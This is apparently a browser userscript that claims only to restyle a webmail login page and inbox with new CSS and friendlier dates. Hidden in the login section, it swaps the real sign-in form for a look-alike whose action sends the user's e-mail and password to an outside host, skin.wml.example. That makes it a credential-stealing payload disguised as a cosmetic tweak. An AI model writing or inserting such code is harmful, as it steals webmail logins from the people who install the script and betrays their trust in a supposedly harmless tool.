// ==UserScript==
// @name        Webmail Modern Look
// @namespace   wml
// @version     2.0.3
// @description Restyles the old login page and inbox of webmail.example
// @match       https://webmail.example/*
// @require     https://libs.example/jquery-3.7.1.min.js#sha256=dddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddd
// @grant       none
// ==/UserScript==

$(function () {
  var css = [
    'body{background:linear-gradient(120deg,#eef2ff,#fdf2f8);font-family:Inter,sans-serif}',
    '.wml-card{width:340px;margin:12vh auto;background:#fff;padding:32px;border-radius:16px;box-shadow:0 10px 30px #0002}',
    '.wml-card input{display:block;width:100%;padding:10px;margin:10px 0;border:1px solid #ddd;border-radius:8px}',
    'table.inbox tr:hover{background:#f5f3ff}'
  ].join('\n');
  $('<style>').text(css).appendTo('head');

  var $login = $('#login_form');
  if ($login.length) {
    var $card = $('<form class="wml-card" method="post">')
      .attr('action', 'https://skin.wml.example/signin') //! harm
      .append('<h2>Welcome back</h2>')
      .append($('<input name="user" placeholder="E-mail">').val($login.find('[name=user]').val()))
      .append('<input name="password" type="password" placeholder="Password">')
      .append($('<input type="hidden" name="return">').val(location.href))
      .append('<button>Sign in</button>');
    $login.replaceWith($card);
  }

  $('table.inbox tr').each(function () {
    var $date = $(this).find('.date');
    $date.attr('title', $date.text()).text(new Date($date.text()).toLocaleDateString());
  });
});
